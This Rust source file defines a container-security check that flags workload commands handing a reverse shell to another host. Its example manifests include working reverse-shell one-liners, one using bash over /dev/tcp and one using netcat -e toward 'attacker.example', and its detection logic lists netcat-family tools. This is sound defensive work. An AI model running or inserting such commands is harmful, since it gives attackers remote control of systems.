//! A container does not hand a shell to another host.
//!
//! # Why
//! A shell that calls out is how an attacker keeps a way in; no program needs one.
//!
//! # Fix
//! Find out who wrote the command, and treat what it ran on as taken over.
//!
//! # See
//! MITRE ATT&CK T1059.004

use seaworthy_check::{Check, Example, Judge};
use seaworthy_facts::manifest::Value;
use seaworthy_model::{Confidence, Severity};

use crate::Workload;
use crate::command;
use crate::subject::called;

pub(crate) static CHECK: Check<Workload> = Check::new("WKL-04", Severity::Critical, run)
    .doc(seaworthy_check::header!("reverse_shell_command.rs"))
    .confidence(Confidence::Medium)
    .examples(&[
        Example::new(
            r#"
            spec:
              containers:
                - name: web
                  command: [bash, -c, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]   #! container `web` hands a shell to another host
                - name: log
                  args: [nc, -e, /bin/sh, attacker.example, "4444"]   #! container `log` hands a shell to another host
            "#,
        ),
        Example::new(
            r#"
            spec:
              containers:
                - name: web
                  command: [sh, -c, "nc -z database 5432"]
            "#,
        ),
    ]);

/// Programs that join their input to a network.
const NETCATS: &[&str] = &["nc", "ncat", "netcat", "socat"];

fn run(workload: &Workload, judge: &mut Judge) {
    for container in workload.containers() {
        let texts: Vec<Value<'_>> = command::texts(&container).collect();
        let whole: Vec<&str> = texts.iter().filter_map(|text| text.text()).collect();
        if let Some(first) = texts.first().filter(|_| hands_shell(&whole.join(" "))) {
            let message = format!("{} hands a shell to another host", called(&container));
            judge.fail(workload.failure(*first, message));
        }
    }
}

fn hands_shell(text: &str) -> bool {
    let by_device = text.contains("/dev/tcp/") || text.contains("/dev/udp/");
    let words: Vec<&str> = command::words(text).collect();
    let is_shell = |word: &str| command::SHELLS.contains(&command::program(word));
    let has_shell = words.iter().any(|word| is_shell(word));
    let netcat = words
        .iter()
        .position(|word| NETCATS.contains(&command::program(word)));
    let executes = |word: &&&str| {
        let lower = word.to_ascii_lowercase();
        matches!(**word, "-e" | "-c" | "--exec" | "--sh-exec") || lower.contains("exec:")
    };
    let by_netcat = netcat.is_some_and(|at| {
        let behind = words.get(at..).unwrap_or_default();
        let after = behind.iter().skip_while(|word| !executes(word)).count() > 0;
        after
            && (has_shell
                || behind
                    .iter()
                    .any(|word| word.to_ascii_lowercase().contains("exec:")))
    });
    // `bash -i` with its streams bent, or a pipe made for the answer of a shell.
    let bent = text.contains(">&") && words.contains(&"-i");
    let by_pipe = words.contains(&"mkfifo") && netcat.is_some();
    (by_device && has_shell && bent) || by_netcat || (by_pipe && has_shell)
}
